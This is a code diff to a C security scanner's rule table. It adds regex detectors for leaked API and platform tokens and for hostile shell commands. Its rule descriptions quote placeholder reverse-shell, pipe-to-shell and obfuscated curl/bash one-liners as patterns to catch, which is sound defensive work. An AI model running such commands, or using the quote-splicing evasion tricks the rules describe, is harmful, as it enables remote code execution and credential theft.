@@ -24,9 +24,10 @@
 #define PATH_END "(?![A-Za-z0-9_.-])"
 
 const char *const cs_families[] = {
-	"ai_api_key",	  "aws_access_key", "private_key_pem",	"ssh_key_file",
-	"unix_sensitive", "dotenv_file",    "whatsapp_session", "pipe_to_shell",
-	"shell_exec",	  "reverse_shell",  "destructive_rm",	"ssh_key_inject",
+	"ai_api_key",	   "aws_access_key",	 "private_key_pem",  "ssh_key_file",
+	"unix_sensitive",  "dotenv_file",	 "whatsapp_session", "pipe_to_shell",
+	"shell_exec",	   "reverse_shell",	 "destructive_rm",   "ssh_key_inject",
+	"messaging_token", "dev_platform_token", "payment_api_key",
 };
 const size_t cs_families_count = sizeof(cs_families) / sizeof(cs_families[0]);
 
@@ -99,6 +100,24 @@ const size_t cs_families_count = sizeof(cs_families) / sizeof(cs_families[0]);
 	"(?:" BIN_DIR "(?:sudo|doas|env|nohup|exec|command|nice|stdbuf)" SP "{1,4}" \
 	"(?:(?:" SWITCH SWITCH_VALUE "(?:" SP "{1,4}[a-z_][a-z0-9_-]{0,31})?"       \
 	"|[A-Za-z_][A-Za-z0-9_]{0,31}=[^\\s|;&]{0,64})" SP "{1,4}){0,4})"
+
+/*
+ * A word the shell splices back together: empty quotes, quoted pieces and
+ * backslashes between its letters (c''url, "cu"rl, c\\url, ba''sh). QB is
+ * what may sit between two letters.
+ */
+#define QB "(?:''|\"\"|\\\\|[\"'])?"
+#define SPLICED_DOWNLOAD "[\"']?(?:c" QB "u" QB "r" QB "l|w" QB "g" QB "e" QB "t)[\"']?"
+/* A spliced shell name: at least one quote or backslash in it (plain ones are SHELLS). */
+#define SPLICED_SH                                                        \
+	"(?=[a-z\"'\\\\]{2,16}(?![A-Za-z0-9_.-]))(?=[a-z]{0,3}[\"'\\\\])" \
+	"[\"']?(?:b" QB "a" QB "|z" QB "|d" QB "a" QB "|k" QB ")?s" QB "h[\"']?(?![A-Za-z0-9_.-])"
+/* The interpreters a one-liner may run (python3 -c, node -e, perl -e, ruby -e, php -r). */
+#define ONE_LINER                                                                             \
+	BIN_DIR "(?:" PYTHON_NAME SP "{1,4}(?:-[A-Za-z]{0,3}" SP "{1,4}){0,2}-[A-Za-z]{0,3}c" \
+		"|node" SP "{1,4}(?:-e|-p|--eval|--print)|(?:perl|ruby)" SP                   \
+		"{1,4}-[A-Za-z]{0,3}[eE]"                                                     \
+		"|php" SP "{1,4}-r)"
 
 /* What may read a script from a file name: shells, interpreters, source and `.`. */
 #define SCRIPT_RUNNER "(?:" BIN_DIR "(?:" SH_NAME "|" PYTHON_NAME "|perl|ruby|node|php)|source|\\.)"
@@ -273,10 +292,10 @@ const struct cs_rule cs_rules[] = {
 		.threat = CS_THREAT_EXFIL,
 		.dir = CS_DIR_OUTBOUND,
 		.severity = CS_SEV_HIGH,
-		.description = "Hugging Face access token (hf_)",
-		.regex = TOK_START "hf_[A-Za-z]{34}" TOK_END,
-		.literals = LITS("hf_"),
-		.literal_next = "A-Za-z",
+		.description = "Hugging Face user or org token (hf_, api_org_; letters and digits)",
+		.regex = TOK_START "(?:hf_|api_org_)[A-Za-z0-9]{34}" TOK_END,
+		.literals = LITS("hf_", "api_org_"),
+		.literal_next = "A-Za-z0-9",
 		.secret_group = 0,
 		.keep_prefix = 3,
 		.validators = CS_VAL_ENTROPY | CS_VAL_ALLOWLIST,
@@ -298,6 +317,43 @@ const struct cs_rule cs_rules[] = {
 		.validators = CS_VAL_ENTROPY | CS_VAL_ALLOWLIST,
 		.min_entropy = 3.5,
 		.home = "replicate",
+	},
+	{
+		.id = "bedrock_api_key",
+		.family = "ai_api_key",
+		.threat = CS_THREAT_EXFIL,
+		.dir = CS_DIR_OUTBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "Amazon Bedrock API key: long-term ABSK + base64(\"BedrockAPIKey-\"), "
+			"short-term bedrock-api-key- + base64(\"bedrock.amazonaws.com/...\")",
+		.regex = "(?:" TOK_START "ABSKQmVkcm9ja0FQSUtleS[A-Za-z0-9+/]{60,300}+={0,2}" TOK_END
+			"|bedrock-api-key-YmVkcm9jay5hbWF6b25hd3MuY29t[A-Za-z0-9+/=]{20,900}+)",
+		.literals = LITS("ABSKQmVkcm9ja0FQSUtleS", "bedrock-api-key-"),
+		.secret_group = 0,
+		.keep_prefix = 4,
+		.redact_after = true,
+		.validators = CS_VAL_ENTROPY | CS_VAL_ALLOWLIST,
+		.min_entropy = 3.5,
+		.home = "aws",
+	},
+	{
+		.id = "named_ai_api_key",
+		.family = "ai_api_key",
+		.threat = CS_THREAT_EXFIL,
+		.dir = CS_DIR_OUTBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "DeepSeek, Mistral or Cohere key assigned to its variable "
+			"(DEEPSEEK_API_KEY=sk-..., MISTRAL_API_KEY, COHERE_API_KEY / CO_API_KEY)",
+		/* Their keys have no shape of their own: the name says what they are. */
+		.regex = "(?<![A-Za-z0-9])(?i:(?:deepseek|mistral|cohere|co)_?api_?key)[\"']?\\s{0,4}[=:]\\s{0,4}[\"']?"
+			"((?:sk-)?[A-Za-z0-9]{32,64})(?![A-Za-z0-9_-])",
+		.literals = LITS("DEEPSEEK_API", "deepseek_api", "deepseekApi", "MISTRAL_API",
+			"mistral_api", "mistralApi", "COHERE_API", "cohere_api", "cohereApi",
+			"CO_API_KEY", "co_api_key"),
+		.secret_group = 1,
+		.keep_prefix = 0,
+		.validators = CS_VAL_ENTROPY | CS_VAL_ALLOWLIST,
+		.min_entropy = 3.5,
 	},
 	{
 		.id = "aws_access_key_id",
@@ -358,7 +414,13 @@ const struct cs_rule cs_rules[] = {
 		.severity = CS_SEV_CRITICAL,
 		.description = "PEM private key (RSA, EC, DSA, OPENSSH, PKCS#8, encrypted, PGP)",
 		.regex = "-----BEGIN (?:RSA |EC |DSA |OPENSSH |ENCRYPTED |PGP )?PRIVATE KEY(?: BLOCK)?-----"
-			"(?:\\r?\\n){0,2}([A-Za-z0-9+/=]{0,64}+)",
+			/*
+			 * Key material must follow (after PEM or armor headers such as
+			 * Proc-Type: or Version:): a bare header, as documentation
+			 * quotes it, is no secret.
+			 */
+			"(?:\\r?\\n| ){0,2}(?:[A-Za-z-]{1,32}: [^\\r\\n]{0,128}\\r?\\n){0,4}(?:\\r?\\n)?"
+			"([A-Za-z0-9+/=]{16,64}+)",
 		.literals = LITS("-----BEGIN "),
 		.secret_group = 1,
 		.keep_prefix = 0,
@@ -514,6 +576,119 @@ const struct cs_rule cs_rules[] = {
 		.secret_group = CS_SECRET_NONE,
 		.redact_after = true,
 	},
+	{
+		.id = "telegram_bot_token",
+		.family = "messaging_token",
+		.threat = CS_THREAT_EXFIL,
+		.dir = CS_DIR_OUTBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "Telegram bot token (<bot id>:AA..., as in /bot<token>/sendMessage)",
+		/* Anchored at the colon: the bot id before it (8-10 digits) is public. */
+		.regex = "(?<=(?<![0-9])[0-9]{8}|(?<![0-9])[0-9]{9}|(?<![0-9])[0-9]{10})"
+			":(AA[A-Za-z0-9_-]{33})(?![A-Za-z0-9_-])",
+		.literals = LITS(":AA"),
+		.literal_next = "A-Za-z0-9_-",
+		.secret_group = 1,
+		.keep_prefix = 2,
+		.validators = CS_VAL_ENTROPY | CS_VAL_ALLOWLIST,
+		.min_entropy = 3.5,
+		.home = "telegram",
+	},
+	{
+		.id = "slack_token",
+		.family = "messaging_token",
+		.threat = CS_THREAT_EXFIL,
+		.dir = CS_DIR_OUTBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "Slack bot, user or app-level token (xoxb-, xoxp-, xoxe-, xapp-)",
+		.regex = TOK_START "(?:xox[bpe]-[0-9]{8,14}-[0-9]{8,14}(?:-[0-9]{8,14})?-[A-Za-z0-9]{24,64}+"
+			"|xapp-[0-9]-[A-Z0-9]{8,12}-[0-9]{8,14}-[a-f0-9]{32,64}+)" TOK_END,
+		.literals = LITS("xoxb-", "xoxp-", "xoxe-", "xapp-"),
+		.secret_group = 0,
+		.keep_prefix = 4,
+		.validators = CS_VAL_ENTROPY | CS_VAL_ALLOWLIST,
+		.min_entropy = 3.0,
+		.home = "slack",
+	},
+	{
+		.id = "discord_bot_token",
+		.family = "messaging_token",
+		.threat = CS_THREAT_EXFIL,
+		.dir = CS_DIR_OUTBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "Discord bot token after \"Bot \" (its Authorization scheme) or a "
+			"DISCORD..._TOKEN name",
+		.regex = "(?:Bot\\s{1,4}|(?i:discord)[A-Za-z0-9_]{0,24}[\"']?\\s{0,4}[=:]\\s{0,4}[\"']?"
+			"(?:Bot\\s{1,4})?)([MNO][A-Za-z0-9_-]{23,27}\\.[A-Za-z0-9_-]{6}\\."
+			"[A-Za-z0-9_-]{27,38})(?![A-Za-z0-9_-])",
+		.literals = LITS("Bot ", "discord", "Discord", "DISCORD"),
+		.secret_group = 1,
+		.keep_prefix = 4,
+		.validators = CS_VAL_ENTROPY | CS_VAL_ALLOWLIST,
+		.min_entropy = 3.5,
+		.home = "discord",
+	},
+	{
+		.id = "github_token",
+		.family = "dev_platform_token",
+		.threat = CS_THREAT_EXFIL,
+		.dir = CS_DIR_OUTBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "GitHub token (ghp_, gho_, ghu_, ghs_, ghr_, github_pat_)",
+		.regex = TOK_START "(?:gh[pousr]_[A-Za-z0-9]{36}"
+			"|github_pat_[A-Za-z0-9]{22}_[A-Za-z0-9]{59})" TOK_END,
+		.literals = LITS("ghp_", "gho_", "ghu_", "ghs_", "ghr_", "github_pat_"),
+		.secret_group = 0,
+		.keep_prefix = 4,
+		.validators = CS_VAL_ENTROPY | CS_VAL_ALLOWLIST,
+		.min_entropy = 3.5,
+		.home = "github",
+	},
+	{
+		.id = "gitlab_token",
+		.family = "dev_platform_token",
+		.threat = CS_THREAT_EXFIL,
+		.dir = CS_DIR_OUTBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "GitLab personal access token (glpat-)",
+		.regex = TOK_START "glpat-[A-Za-z0-9_-]{20,64}+(?:\\.[A-Za-z0-9_-]{1,20}){0,2}" TOK_END,
+		.literals = LITS("glpat-"),
+		.secret_group = 0,
+		.keep_prefix = 4,
+		.validators = CS_VAL_ENTROPY | CS_VAL_ALLOWLIST,
+		.min_entropy = 3.5,
+		.home = "gitlab",
+	},
+	{
+		.id = "npm_token",
+		.family = "dev_platform_token",
+		.threat = CS_THREAT_EXFIL,
+		.dir = CS_DIR_OUTBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "npm access token (npm_)",
+		.regex = TOK_START "npm_[A-Za-z0-9]{36}" TOK_END,
+		.literals = LITS("npm_"),
+		.secret_group = 0,
+		.keep_prefix = 4,
+		.validators = CS_VAL_ENTROPY | CS_VAL_ALLOWLIST,
+		.min_entropy = 3.5,
+		.home = "npm",
+	},
+	{
+		.id = "stripe_live_key",
+		.family = "payment_api_key",
+		.threat = CS_THREAT_EXFIL,
+		.dir = CS_DIR_OUTBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "Stripe live secret or restricted key (sk_live_, rk_live_)",
+		.regex = TOK_START "(?:sk|rk)_live_[A-Za-z0-9]{24,247}+" TOK_END,
+		.literals = LITS("sk_live_", "rk_live_"),
+		.secret_group = 0,
+		.keep_prefix = 4,
+		.validators = CS_VAL_ENTROPY | CS_VAL_ALLOWLIST,
+		.min_entropy = 3.5,
+		.home = "stripe",
+	},
 	/* ------------------------------------------------------ INJECTION */
 	{
 		.id = "download_pipe_shell",
@@ -529,8 +704,36 @@ const struct cs_rule cs_rules[] = {
 		 * table row "| curl | HTTP client | bash |" is not a pipeline.
 		 */
 		.regex = CMD_START "(?:curl|wget)" SP "{1,4}(?=[^\\n|]{0,400}[./:$-])[^\\n|]{1,400}+"
-			"(?:\\|(?!\\|)[^\\n|;&]{0,200}+){0,3}\\|" SP "{0,4}" RUNNER "{0,3}" SHELLS,
+			"(?:\\|(?!\\|)[^\\n|;&]{0,200}+){0,3}\\|" SP "{0,4}" RUNNER "{0,3}"
+			"(?:" SHELLS "|" SPLICED_SH ")",
 		.literals = LITS("curl", "wget"),
+		.secret_group = CS_SECRET_NONE,
+	},
+	{
+		.id = "spliced_download_pipe_shell",
+		.family = "pipe_to_shell",
+		.threat = CS_THREAT_INJECTION,
+		.dir = CS_DIR_INBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "a download command spelled with quotes or backslashes the shell "
+			"removes, piped into a shell (c''url URL | ba''sh, \"cu\"rl URL | sh)",
+		.regex = SPLICED_DOWNLOAD SP "{1,4}(?=[^\\n|]{0,400}[./:$-])[^\\n|]{1,400}+"
+			"(?:\\|(?!\\|)[^\\n|;&]{0,200}+){0,3}\\|" SP "{0,4}" RUNNER "{0,3}"
+			"(?:" SHELLS "|" SPLICED_SH ")",
+		.literals = LITS("\"c\"url", "\"cu\"rl", "\"cur\"l", "\"w\"get", "\"wg\"et", "\"wge\"t", "'c'url", "'cu'rl", "'cur'l", "'w'get", "'wg'et", "'wge't", "c\"\"url", "c\"u\"rl", "c\"ur\"l", "c\"url\"", "c''url", "c'u'rl", "c'ur'l", "c'url'", "c\\url", "cu\"\"rl", "cu\"r\"l", "cu\"rl\"", "cu''rl", "cu'r'l", "cu'rl'", "cu\\rl", "cur\"\"l", "cur\"l\"", "cur''l", "cur'l'", "cur\\l", "w\"\"get", "w\"g\"et", "w\"ge\"t", "w\"get\"", "w''get", "w'g'et", "w'ge't", "w'get'", "w\\get", "wg\"\"et", "wg\"e\"t", "wg\"et\"", "wg''et", "wg'e't", "wg'et'", "wg\\et", "wge\"\"t", "wge\"t\"", "wge''t", "wge't'", "wge\\t"),
+		.secret_group = CS_SECRET_NONE,
+	},
+	{
+		.id = "one_liner_download",
+		.family = "pipe_to_shell",
+		.threat = CS_THREAT_INJECTION,
+		.dir = CS_DIR_INBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "an interpreter running a download as its program "
+			"(python3 -c \"$(curl URL)\", node -e \"$(curl URL)\", perl -e \"$(wget -qO- URL)\")",
+		.regex = CMD_START ONE_LINER SP "{1,4}\\\\?[\"']?(?:\\$\\(|`)" SP "{0,4}(?:curl|wget)" SP,
+		.literals = LITS("$(curl", "$(wget", "`curl", "`wget", "$( curl", "$( wget"),
+		.lookback = 96,
 		.secret_group = CS_SECRET_NONE,
 	},
 	{
@@ -681,6 +884,86 @@ const struct cs_rule cs_rules[] = {
 			"|php\\s{1,4}-r\\s{1,4}" QUOTED_UNTIL("fsockopen\\s{0,4}\\(")
 			"|ruby\\s{1,4}(?:-rsocket|-e\\s{1,4}" QUOTED_UNTIL("TCPSocket") "))",
 		.literals = LITS("perl ", "php ", "ruby "),
+		.secret_group = CS_SECRET_NONE,
+	},
+	{
+		.id = "shell_pipe_netcat",
+		.family = "reverse_shell",
+		.threat = CS_THREAT_INJECTION,
+		.dir = CS_DIR_INBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "a shell piped into a network client (bash -i 2>&1 | nc HOST PORT)",
+		.regex = CMD_START BIN_DIR SH_NAME "(?:" SP "{1,4}(?:-[A-Za-z]{1,3}|[0-9]?[<>]&[0-9]))"
+			"{0,4}" SP "{0,4}\\|" SP "{0,4}(?:nc|ncat|netcat|telnet)(?:\\.traditional|\\.openbsd)?"
+			"(?![A-Za-z0-9_.-])",
+		.literals = LITS("| nc", "|nc ", "| ncat", "|ncat", "| netcat", "|netcat",
+			"| telnet", "|telnet", "|${IFS}nc", "|$IFS"),
+		.lookback = 64,
+		.secret_group = CS_SECRET_NONE,
+	},
+	{
+		.id = "netcat_pipe_shell",
+		.family = "reverse_shell",
+		.threat = CS_THREAT_INJECTION,
+		.dir = CS_DIR_INBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "a network client piped into a shell (nc HOST PORT | /bin/sh)",
+		.regex = CMD_START "(?:nc|ncat|netcat|telnet)(?:\\.traditional|\\.openbsd)?" SP
+			"[^\\n|;&]{1,120}+\\|" SP "{0,4}" BIN_DIR SH_NAME "(?:" SP "{1,4}-i)?"
+			"(?![A-Za-z0-9_.-])(?!" SP "{1,4}-[A-Za-z]{0,3}c)",
+		.literals = LITS("nc ", "nc${IFS}", "nc$IFS", "ncat", "netcat", "telnet"),
+		.literal_next = "-0-9A-Za-z",
+		.secret_group = CS_SECRET_NONE,
+	},
+	{
+		.id = "fifo_shell",
+		.family = "reverse_shell",
+		.threat = CS_THREAT_INJECTION,
+		.dir = CS_DIR_INBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "a named pipe feeding a shell (mkfifo f; sh -i < f ...; mknod f p; "
+			"cat f | sh)",
+		.regex = CMD_START "(?:mkfifo(?:" SP "{1,4}-m" SP "{0,4}[0-7]{3,4})?" SP
+			"{1,4}([A-Za-z0-9_./-]{1,64}+)"
+			"|mknod" SP "{1,4}([A-Za-z0-9_./-]{1,64}+)" SP "{1,4}p(?![A-Za-z0-9]))"
+			"[^\\n]{0,200}?(?<![A-Za-z0-9_.-])"
+			"(?:" BIN_DIR SH_NAME "(?:" SP "{1,4}-[A-Za-z]{1,3}){0,2}" SP "{0,4}0?<" SP
+			"{0,2}(?:\\1|\\2)(?![A-Za-z0-9_./-])"
+			"|cat" SP "{1,4}(?:\\1|\\2)" SP "{0,4}\\|" SP "{0,4}" BIN_DIR SH_NAME
+			"(?![A-Za-z0-9_.-]))",
+		.literals = LITS("mkfifo", "mknod"),
+		.secret_group = CS_SECRET_NONE,
+	},
+	{
+		.id = "fd_redirect_shell",
+		.family = "reverse_shell",
+		.threat = CS_THREAT_INJECTION,
+		.dir = CS_DIR_INBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "a shell whose input and output are one inherited descriptor "
+			"(sh -i <&3 >&3 2>&3: a socket opened before)",
+		.regex = CMD_START BIN_DIR SH_NAME "(?:" SP "{1,4}-[A-Za-z]{1,3}){0,2}" SP "{1,4}"
+			"(?:0?<&" SP "{0,2}([3-9]|[1-9][0-9]{1,2})(?![0-9])" SP "{1,4}1?>&" SP "{0,2}\\1"
+			"|1?>&" SP "{0,2}([3-9]|[1-9][0-9]{1,2})(?![0-9])" SP "{1,4}0?<&" SP "{0,2}\\2)"
+			"(?![0-9])",
+		/* Every such shell reads its input from the descriptor: <&N, N >= 3. */
+		.literals = LITS("<&3", "<&4", "<&5", "<&6", "<&7", "<&8", "<&9", "<&10", "<&11",
+			"<&12", "<&13", "<&14", "<&15", "<&16", "<&17", "<&18", "<&19", "<&20",
+			"<&21", "<&22", "<&23", "<&24", "<&25", "<&26", "<&27", "<&28", "<&29"),
+		.literal_next = "0-9 \t>&;$\"'",
+		.lookback = 48,
+		.secret_group = CS_SECRET_NONE,
+	},
+	{
+		.id = "awk_inet_socket",
+		.family = "reverse_shell",
+		.threat = CS_THREAT_INJECTION,
+		.dir = CS_DIR_INBOUND,
+		.severity = CS_SEV_CRITICAL,
+		.description = "gawk's network special file (/inet/tcp/0/HOST/PORT): awk as a "
+			"reverse shell",
+		.regex = "/inet[46]?/(?:tcp|udp)/[0-9]{1,5}/[A-Za-z0-9.:-]{1,253}+/[0-9]{1,5}",
+		.literals = LITS("/inet/tcp/", "/inet/udp/", "/inet4/", "/inet6/"),
 		.secret_group = CS_SECRET_NONE,
 	},
 	{
